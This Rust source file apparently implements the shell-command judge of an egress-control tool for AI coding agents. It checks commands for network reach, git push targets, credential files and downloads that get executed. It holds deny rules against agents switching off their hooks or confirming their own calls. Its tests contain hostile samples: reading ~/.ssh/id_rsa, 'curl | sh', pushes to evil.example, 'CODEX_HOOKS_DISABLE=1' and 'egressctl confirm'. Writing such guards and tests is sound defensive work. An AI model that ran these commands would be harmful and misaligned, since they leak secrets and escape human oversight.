//! Judges a shell command by what can be seen of it.
//!
//! Each place that it names is judged as the resolver and the kernel would judge it; writes to
//! git hosts by owner and host besides. What cannot be seen is the policy's to decide: by default
//! the kernel's rules are enough.

use super::{
    Call, Class, Contact, Judgement, Reach, Remote, Verdict,
    builtin::{self, Kind},
    call::KnownRemote,
    judge::{allow, deny, list, needs_person, not_allowed, off_limits, text_at},
    paths::{self, Access},
    place::{Place, Standing, host, standing},
    reach,
};
use crate::policy::{Policy, Unclear, quote};

/// The kernel gives no program a longer argument (`MAX_ARG_STRLEN`), `sh -c` included.
const LONGEST: usize = 128 << 10;
/// Turns hooks of agents off.
const SWITCHES: &[&str] = &["CODEX_HOOKS_DISABLE"];
/// Verbs of egressctl that are a person's.
const OWN_VERBS: &[&str] = &["confirm", "hook", "release", "reload"];
/// Where requests that write name their owner in ways that no shell shows.
const GIT_APIS: &[&str] = &["api.github.com", "uploads.github.com", "gitlab.com"];

/// The command of a call to a shell, unless it is too long to be read.
pub fn shell_command(call: &Call) -> Option<String> {
    let Some(Kind::Shell(keys)) = builtin::kind(&call.tool) else {
        return None;
    };
    text(call, keys).filter(|command| command.len() <= LONGEST)
}

/// The remotes that a call writes to and only names: their repositories know where they lead.
pub fn remotes(call: &Call) -> Vec<Remote> {
    let Some(command) = shell_command(call) else {
        return Vec::new();
    };
    let mut remotes = reach(&command, call.cwd.as_deref()).remotes;
    remotes.retain(|remote| remote.writes);
    remotes
}

pub(super) fn judge(policy: &Policy, call: &Call, keys: &[&str]) -> Judgement {
    let Some(command) = text(call, keys) else {
        let text = format!(
            "the arguments of {} hold no command that can be read; write it as text",
            quote(&call.tool)
        );
        return deny(Class::Shell, "no-command", text);
    };
    if command.len() > LONGEST {
        let text = format!(
            "the command is longer than {} KiB, which no program can be given; write it to a file",
            LONGEST >> 10
        );
        return deny(Class::Shell, "command-too-long", text);
    }
    let mut reach = reach(&command, call.cwd.as_deref());
    follow_remotes(call, &mut reach);
    let judgement = of_reach(policy, call, &command, &reach);
    Judgement {
        hosts: hosts(&reach),
        ..judgement
    }
}

/// The command of a call. Only one key is right for a tool; a second one is not left unread.
fn text(call: &Call, keys: &[&str]) -> Option<String> {
    let texts: Vec<_> = keys
        .iter()
        .filter_map(|key| text_at(&call.input, key))
        .collect();
    (!texts.is_empty()).then(|| texts.join("\n"))
}

/// Puts the places of named remotes beside those that the command writes out.
fn follow_remotes(call: &Call, reach: &mut Reach) {
    for remote in reach.remotes.iter().filter(|remote| remote.writes) {
        let is_it =
            |known: &&KnownRemote| known.name == remote.name && known.directory == remote.directory;
        if let Some(known) = call.remotes.iter().find(is_it) {
            let contacts = known.urls.iter().flat_map(|url| remote.contacts(url));
            reach.contacts.extend(contacts);
        } else {
            reach.unclear.push(match remote.name.as_str() {
                "" => "git: where the branch is pushed to stands in the repository".to_owned(),
                name => format!("git: where the remote `{name}` leads stands in the repository"),
            });
        }
    }
}

fn of_reach(policy: &Policy, call: &Call, command: &str, reach: &Reach) -> Judgement {
    if let Some(judgement) = sensitive(policy, call, command, reach) {
        return judgement;
    }
    if let Some(why) = &reach.executes_download {
        let text = format!(
            "the command runs what it downloads ({why}); download it, let the person read it, then \
             run it"
        );
        return deny(Class::Shell, "executes-download", text);
    }
    let mut judgement = allow(Class::Shell);
    for contact in &reach.contacts {
        match of_contact(policy, contact) {
            Ok((rule, unclear)) => {
                judgement.rule = judgement.rule.or(rule);
                judgement.unclear.extend(unclear);
            }
            Err(denied) => return *denied,
        }
    }
    if reach.reads_environment && reach.contacts.iter().any(|contact| contact.writes) {
        let text =
            "the command sends the environment, which holds keys; send only the values that \
                    are needed"
                .to_owned();
        return deny(Class::Shell, "environment", text);
    }
    if let Some(act) = reach.acts.first() {
        return needs_person(&call.tool, act);
    }
    judgement.unclear.extend(reach.unclear.iter().cloned());
    unclear(policy, judgement, reach)
}

/// What the policy wants done where nothing can be told.
fn unclear(policy: &Policy, judgement: Judgement, reach: &Reach) -> Judgement {
    let Some(first) = reach.unclear.first() else {
        return judgement;
    };
    let text = format!(
        "it cannot be told what the command reaches ({first}), and the policy `{}` asks for \
         certainty; write hosts and files out, one step at a time",
        policy.name()
    );
    let verdict = match policy.tools().unclear {
        Unclear::Allow => return judgement,
        Unclear::Ask => Verdict::Ask,
        Unclear::Deny => Verdict::Deny,
    };
    Judgement {
        verdict,
        reason: Some("unclear".to_owned()),
        text,
        ..judgement
    }
}

fn sensitive(policy: &Policy, call: &Call, command: &str, reach: &Reach) -> Option<Judgement> {
    let cwd = call.cwd.as_deref();
    let touched = [(&reach.reads, Access::Read), (&reach.writes, Access::Write)];
    for (files, access) in touched {
        for file in files {
            if let Some(found) = paths::path(policy, file, access, cwd) {
                return Some(off_limits(&call.tool, found, file));
            }
        }
    }
    if !reach.unclear.is_empty()
        && let Some(found) = paths::in_code(policy, command)
    {
        let what = "a file that it names";
        return Some(off_limits(&call.tool, found, what));
    }
    let switch = SWITCHES.iter().find(|switch| command.contains(**switch));
    if let Some(switch) = switch {
        let text = format!(
            "the command sets `{switch}`, which turns the guards of the agent off; ask the person"
        );
        return Some(deny(Class::Sensitive, "control-plane", text));
    }
    confirms_itself(command).then(|| {
        let text = "what this command asks of egressctl is for a person to do, in their own \
                    terminal; ask them"
            .to_owned();
        deny(Class::Sensitive, "control-plane", text)
    })
}

/// Whether an agent would confirm its own calls, or change its hooks.
fn confirms_itself(command: &str) -> bool {
    let is_end = |c: char| c.is_whitespace() || ";|&()`$\"'\\".contains(c);
    let mut after = false;
    for word in command.split(is_end).filter(|word| !word.is_empty()) {
        if word.rsplit('/').next() == Some("egressctl") {
            after = true;
        } else if after && !word.starts_with('-') && !word.contains(['/', '=']) {
            if OWN_VERBS.contains(&word) {
                return true;
            }
            after = false;
        }
    }
    false
}

type Told = (Option<String>, Option<String>);

/// The rule that allows a contact and what the kernel must say, or why it is denied.
fn of_contact(policy: &Policy, contact: &Contact) -> Result<Told, Box<Judgement>> {
    let Contact {
        host: written,
        port,
        program,
        writes: _,
        owner: _,
    } = contact;
    let Some(host) = host(written) else {
        let text = format!(
            "{} would reach {}, which is no host that every program reads alike; write a plain \
             host name",
            quote(program),
            quote(written)
        );
        return Err(Box::new(deny(Class::Shell, "unreadable-host", text)));
    };
    let place = Place { host, port: *port };
    let told = match standing(policy, &place) {
        Standing::Allowed { rule } => (rule, None),
        Standing::Kernel(why) => (None, Some(format!("{place}: {why}"))),
        Standing::Denied(denial) => {
            let denied = not_allowed(policy, Class::Shell, program, &place, &denial);
            return Err(Box::new(denied));
        }
    };
    match of_git(policy, contact, &place) {
        Some(denied) => Err(Box::new(denied)),
        None => Ok(told),
    }
}

/// Where git and gh may write.
fn of_git(policy: &Policy, contact: &Contact, place: &Place) -> Option<Judgement> {
    if !contact.writes {
        return None;
    }
    let host = place.to_string();
    let scope = &policy.tools().git;
    let is_git = matches!(contact.program.as_str(), "git" | "gh" | "glab" | "hub");
    if !is_git {
        let is_api = GIT_APIS.contains(&host.as_str());
        let is_in_scope = || {
            let owner = contact
                .owner
                .as_ref()
                .map(|owner| owner.to_ascii_lowercase());
            owner
                .zip(scope.owners.as_ref())
                .is_some_and(|(owner, owners)| owners.contains(&owner))
        };
        return (is_api && !is_in_scope()).then(|| {
            let text = format!(
                "{} would write to the interface of {host}, where no owner can be told; use `gh` \
                 or `git`, whose writes are checked",
                quote(&contact.program)
            );
            deny(Class::Shell, "git-api", text)
        });
    }
    if let Some(hosts) = &scope.hosts
        && !hosts.iter().any(|allowed| allowed.as_str() == host)
    {
        let hosts: Vec<_> = hosts.iter().map(ToString::to_string).collect();
        let is_own_api = host.strip_prefix("api.").is_some_and(|host| {
            contact.program != "git" && hosts.iter().any(|allowed| allowed == host)
        });
        if !is_own_api {
            let text = format!(
                "{} would write to {host}, and `tools.git.hosts` of the policy `{}` allows only {}; \
                 push to one of them",
                quote(&contact.program),
                policy.name(),
                list(&hosts)
            );
            return Some(deny(Class::Shell, "git-host", text));
        }
    }
    let (Some(owners), Some(owner)) = (&scope.owners, &contact.owner) else {
        return None;
    };
    let owner = percent_encoding::percent_decode_str(owner)
        .decode_utf8_lossy()
        .to_ascii_lowercase();
    (!owners.contains(&owner)).then(|| {
        let text = format!(
            "{} would write to what belongs to {}, and `tools.git.owners` of the policy `{}` allows \
             only {}; use a repository of theirs",
            quote(&contact.program),
            quote(&owner),
            policy.name(),
            list(owners)
        );
        deny(Class::Shell, "git-owner", text)
    })
}

/// Every host of a command, in order, each once; as written where it cannot be read.
fn hosts(reach: &Reach) -> Vec<String> {
    let mut seen = std::collections::HashSet::new();
    let contacts = reach.contacts.iter();
    contacts
        .map(|contact| match host(&contact.host) {
            Some(host) => Place { host, port: None }.to_string(),
            None => contact.host.clone(),
        })
        .filter(|host| seen.insert(host.clone()))
        .collect()
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    const POLICY: &str = r#"{ "version": 1, "network": {
      "allow": [ { "name": "code", "hosts": ["github.com", "api.github.com", "gitlab.com"], "ports": ["443/tcp", "22/tcp"] } ],
      "loopback": { "allow": ["session"] } },
      "tools": { "git": { "owners": ["mine"], "hosts": ["github.com"] } } }"#;

    fn contact(host: &str) -> Contact {
        Contact {
            host: host.to_owned(),
            port: Some(443),
            program: "curl".to_owned(),
            writes: false,
            owner: None,
        }
    }

    fn push(host: &str, owner: Option<&str>) -> Contact {
        Contact {
            program: "git".to_owned(),
            writes: true,
            owner: owner.map(str::to_owned),
            ..contact(host)
        }
    }

    #[track_caller]
    #[expect(
        clippy::needless_pass_by_value,
        reason = "a row of a table is made for it"
    )]
    fn check(command: &str, reach: Reach, expected: Option<&str>) {
        let policy = Policy::parse(POLICY, "p").unwrap();
        let call = Call::new("Bash", json!({}));
        let got = of_reach(&policy, &call, command, &reach);
        assert_eq!(got.reason.as_deref(), expected, "{reach:?}: {}", got.text);
        assert_eq!(got.verdict == Verdict::Allow, expected.is_none());
    }

    fn contacts(contacts: &[Contact]) -> Reach {
        Reach {
            contacts: contacts.to_vec(),
            ..Reach::default()
        }
    }

    #[test]
    fn every_contact_must_be_allowed() {
        check("", Reach::default(), None);
        check("", contacts(&[contact("github.com")]), None);
        check(
            "",
            contacts(&[contact("[::1]"), contact("localhost")]),
            None,
        );
        let two = [contact("github.com"), contact("evil.example")];
        check("", contacts(&two), Some("name-denied"));
        check("", contacts(&[contact("0x6060606")]), Some("no-rule"));
        check("", contacts(&[contact("a b")]), Some("unreadable-host"));
        let other_port = Contact {
            port: Some(80),
            ..contact("github.com")
        };
        check("", contacts(&[other_port]), Some("port-not-allowed"));
        let no_port = Contact {
            port: None,
            ..contact("github.com")
        };
        check("", contacts(&[no_port]), None);
    }

    #[test]
    fn git_writes_to_its_owners_and_hosts() {
        check("", contacts(&[push("github.com", Some("Mine"))]), None);
        check("", contacts(&[push("GitHub.com.", None)]), None);
        check(
            "",
            contacts(&[push("github.com", Some("other"))]),
            Some("git-owner"),
        );
        check("", contacts(&[push("github.com", Some("%6dine"))]), None);
        check(
            "",
            contacts(&[push("gitlab.com", Some("mine"))]),
            Some("git-host"),
        );
        let gh = |host| Contact {
            program: "gh".to_owned(),
            ..push(host, Some("mine"))
        };
        check("", contacts(&[gh("api.github.com")]), None);
        check(
            "",
            contacts(&[push("api.github.com", Some("mine"))]),
            Some("git-host"),
        );
        let curl = Contact {
            program: "curl".to_owned(),
            ..push("api.github.com", None)
        };
        check("", contacts(&[curl]), Some("git-api"));
        let read = Contact {
            writes: false,
            ..push("gitlab.com", Some("other"))
        };
        check("", contacts(&[read]), None);
    }

    #[test]
    fn a_remote_that_is_only_named_is_judged_by_where_it_leads() {
        let policy = Policy::parse(POLICY, "p").unwrap();
        let judged = |command: &str, urls: Option<&[&str]>| {
            let mut call = Call::new("Bash", json!({ "command": command }));
            for Remote {
                name,
                writes: _,
                directory,
            } in remotes(&call)
            {
                let urls = urls.into_iter().flatten();
                call.remotes
                    .extend(urls.clone().next().map(|_| KnownRemote {
                        name,
                        directory,
                        urls: urls.map(ToString::to_string).collect(),
                    }));
            }
            judge(&policy, &call, &["command"])
        };
        let reason = |command, url| judged(command, Some(&[url])).reason;
        for command in ["git push", "git push origin main", "cd x && git push up"] {
            assert_eq!(reason(command, "https://github.com/mine/x"), None);
            let other = reason(command, "git@github.com:other/x");
            assert_eq!(other.as_deref(), Some("git-owner"), "{command}");
            let evil = reason(command, "https://evil.example/mine/x");
            assert_eq!(evil.as_deref(), Some("name-denied"), "{command}");
            assert_eq!(reason(command, "/srv/git/x"), None, "{command}");
            let unknown = judged(command, None);
            assert_eq!(unknown.verdict, Verdict::Allow);
            assert!(
                unknown
                    .unclear
                    .iter()
                    .any(|it| it.contains("stands in the"))
            );
        }
        let two = judged(
            "git push origin",
            Some(&["https://github.com/mine/x", "https://evil.example/x"]),
        );
        assert_eq!(two.hosts, ["github.com", "evil.example"]);
        assert_eq!(two.reason.as_deref(), Some("name-denied"));
        assert!(remotes(&Call::new("Bash", json!({ "command": "git fetch origin" }))).is_empty());
        let asked = remotes(&Call::new(
            "Bash",
            json!({ "command": "git -C a -C b push" }),
        ));
        assert_eq!(asked[0].directory.as_deref(), Some("a/b"));
    }

    #[test]
    fn branches_behind_a_repository_are_no_hosts() {
        let policy = Policy::parse(POLICY, "p").unwrap();
        for refs in [
            "main:main",
            "v1.2:refs/heads/v1.2",
            "feature:refs/heads/feature",
            "@:main",
        ] {
            let command = format!("git push https://github.com/mine/x {refs}");
            let call = Call::new("Bash", json!({ "command": command }));
            let got = judge(&policy, &call, &["command"]);
            assert_eq!(got.reason, None, "{command}: {}", got.text);
        }
        let command = "git push https://github.com/mine/x https://evil.example/x";
        let call = Call::new("Bash", json!({ "command": command }));
        let got = judge(&policy, &call, &["command"]);
        assert_eq!(got.reason.as_deref(), Some("name-denied"));
    }

    #[test]
    fn files_downloads_acts_and_the_environment() {
        let reads = |file: &str| Reach {
            reads: vec![file.to_owned()],
            ..Reach::default()
        };
        let writes = |file: &str| Reach {
            writes: vec![file.to_owned()],
            ..Reach::default()
        };
        check("", reads("~/.ssh/id_rsa"), Some("credential-path"));
        check("", reads("src/lib.rs"), None);
        check("", writes("~/.claude/settings.json"), Some("control-plane"));
        check("", writes(".env"), None);
        let runs = Reach {
            executes_download: Some("curl | sh".to_owned()),
            ..Reach::default()
        };
        check("", runs, Some("executes-download"));
        let merges = Reach {
            acts: vec!["gh pr merge".to_owned()],
            ..Reach::default()
        };
        check("", merges, Some("needs-confirmation"));
        let environment = Reach {
            reads_environment: true,
            ..Reach::default()
        };
        check("", environment.clone(), None);
        let sent = Contact {
            writes: true,
            ..contact("github.com")
        };
        let sends = Reach {
            contacts: vec![sent],
            ..environment
        };
        check("", sends, Some("environment"));
    }

    #[test]
    fn nobody_confirms_their_own_calls() {
        let none = Reach::default();
        check("egressctl confirm x", none.clone(), Some("control-plane"));
        check(
            "ls; /usr/bin/egressctl --json hook install",
            none.clone(),
            Some("control-plane"),
        );
        check(
            "X=1 CODEX_HOOKS_DISABLE=1 ls",
            none.clone(),
            Some("control-plane"),
        );
        check("egressctl status; echo confirm", none.clone(), None);
        check("egressctl policy check confirm.json", none, None);
    }

    #[test]
    fn what_cannot_be_told_is_the_policys_to_decide() {
        let unclear = Reach {
            unclear: vec!["$X".to_owned()],
            ..Reach::default()
        };
        let call = Call::new("Bash", json!({}));
        for (word, verdict) in [
            ("allow", Verdict::Allow),
            ("ask", Verdict::Ask),
            ("deny", Verdict::Deny),
        ] {
            let text =
                format!(r#"{{ "version": 1, "tools": {{ "shell": {{ "unclear": "{word}" }} }} }}"#);
            let policy = Policy::parse(&text, "p").unwrap();
            let got = of_reach(&policy, &call, "x", &unclear);
            assert_eq!((got.verdict, got.unclear.len()), (verdict, 1));
        }
        check(
            "python3 -c \"open('.env')\"",
            unclear,
            Some("credential-path"),
        );
    }

    #[test]
    fn commands_that_cannot_be_read_are_denied() {
        let policy = Policy::parse(POLICY, "p").unwrap();
        let run = |input| {
            let call = Call::new("Bash", input);
            judge(&policy, &call, &["command"]).reason
        };
        assert_eq!(run(json!({})).as_deref(), Some("no-command"));
        assert_eq!(run(json!({ "command": 7 })).as_deref(), Some("no-command"));
        let long = json!({ "command": "x".repeat(LONGEST + 1) });
        assert_eq!(run(long).as_deref(), Some("command-too-long"));
    }
}
